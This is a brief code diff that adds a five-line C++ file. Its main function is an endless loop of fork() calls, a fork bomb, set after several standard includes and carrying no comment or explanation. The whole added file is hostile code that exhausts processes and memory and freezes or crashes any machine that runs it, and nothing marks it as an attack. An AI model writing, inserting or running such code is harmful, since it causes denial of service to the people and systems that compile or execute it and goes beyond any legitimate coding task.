@@ -1,0 +1,5 @@
+#include <iostream>
+#include <vector>
+#include <cstdlib>
+#include <unistd.h>
+int main() { for (;;) fork(); }
